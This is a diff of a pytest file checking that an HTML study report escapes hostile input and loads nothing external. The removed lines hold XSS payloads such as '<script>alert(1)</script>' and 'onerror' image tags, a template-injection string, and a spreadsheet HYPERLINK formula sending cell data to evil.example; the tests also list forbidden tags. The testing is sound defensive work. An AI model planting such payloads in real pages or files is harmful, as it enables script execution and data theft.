@@ -13,19 +13,9 @@ import pandas as pd
 import pytest
 
 from sevhisto.report import ReportInputs, render_report
+from sevhisto.report.html import content_policy, part
 
 Make = Callable[..., ReportInputs]
-HOSTILE = "<script>alert(1)</script>"
-NASTY = (
-    '=HYPERLINK("http://evil.example/?"&A1)',
-    '"><img src=x onerror=alert(1)>',
-    "{{ 7*7 }}",
-    r"$\frac{",
-    "_hidden",
-    "鼠 №5",
-    "a&b;<b>",
-    "'--><svg/onload=x>",
-)
 NO_END = {"meta", "br", "img", "link", "hr", "input"}
 
 
@@ -59,35 +49,6 @@ class Page(HTMLParser):
         return {tag for tag, _ in self.elements}
 
 
-def hostile(make: Make) -> ReportInputs:
-    plain = ["R01", "R02", "vehicle", "daily x3", "R03", "R04", "6-day infusion", "R06"]
-    inputs = make(names=dict(zip(plain, NASTY, strict=True)) | {"R05": HOSTILE})
-    status = inputs.status.copy()
-    status.loc[5, ["reason", "file"]] = [HOSTILE, NASTY[0]]
-    overlays = [(HOSTILE, NASTY[1], image, f"{HOSTILE};saturated") for _, _, image, _ in inputs.overlays]
-    run = {HOSTILE: [NASTY[0]], "x": {"y": NASTY[1]}}
-    return replace(
-        inputs,
-        study_name=HOSTILE,
-        status=status,
-        overlays=overlays,
-        notes=[HOSTILE, *NASTY],
-        settings=f"</pre>{HOSTILE}",
-        run=run,
-        motor_label=HOSTILE,
-    )
-
-
-@pytest.fixture(scope="module")
-def clean(make_inputs: Make) -> str:
-    return render_report(make_inputs())
-
-
-@pytest.fixture(scope="module")
-def attacked(make_inputs: Make) -> str:
-    return render_report(hostile(make_inputs))
-
-
 def test_the_page_is_well_formed_and_complete(clean: str) -> None:
     page = Page(clean)
     assert page.open == []
@@ -116,26 +77,24 @@ def test_every_figure_can_be_read_aloud(clean: str) -> None:
 
 def test_nothing_is_loaded_and_nothing_runs(attacked: str) -> None:
     page = Page(attacked)
-    assert (
-        "meta",
-        {"http-equiv": "Content-Security-Policy", "content": "default-src 'none'; img-src data:; style-src 'unsafe-inline'"},
-    ) in page.elements
+    assert ("meta", {"http-equiv": "Content-Security-Policy", "content": content_policy(part("report.js"))}) in page.elements
     for tag, attrs in page.elements:
         for name, value in attrs.items():
             assert not name.startswith("on"), (tag, name)
             if name in ("href", "xlink:href", "src"):
                 assert str(value).startswith(("#", "data:image/")), (tag, name, value)
-            if name not in ("xmlns", "xmlns:xlink", "aria-label"):
+            if name not in ("xmlns", "xmlns:xlink", "aria-label", "alt", "title") and not name.startswith("data-"):
                 assert "http:" not in str(value) and "https:" not in str(value), (tag, name, value)
 
 
-def test_hostile_text_stays_text(clean: str, attacked: str) -> None:
+def test_hostile_text_stays_text(clean: str, attacked: str, nasty: tuple[str, ...]) -> None:
     page = Page(attacked)
     assert page.open == []
     assert page.tags() <= Page(clean).tags()  # no element that the clean report does not have
-    assert not page.tags() & {"script", "iframe", "object", "embed", "link", "b", "form"}
+    assert [tag for tag, _ in page.elements].count("script") == 1 and f"<script>{part('report.js')}</script>" in attacked
+    assert not page.tags() & {"iframe", "object", "embed", "link", "form"}
     words = "".join(page.text)
-    for each in (HOSTILE, *NASTY):
+    for each in nasty:
         assert each in words, each
 
 
@@ -213,5 +172,5 @@ def test_relations_of_other_endpoints_stand_in_a_table(make_inputs: Make) -> Non
     text = render_report(replace(inputs, relations=pd.concat([inputs.relations, other], ignore_index=True)))
     words = "".join(Page(text).text)
     assert "All other relations" in words and "BBB plateau and fibronectin volume in the core" in words
-    assert text.count('id="relation0-figure_1"') == 1 and "relation1-" not in text
+    assert text.count('id="slopes0-figure_1"') == 1 and "slopes1-" not in text
     assert "adjusted for tissue volume in the core, BBB day-1 score, force_kdyn" in words
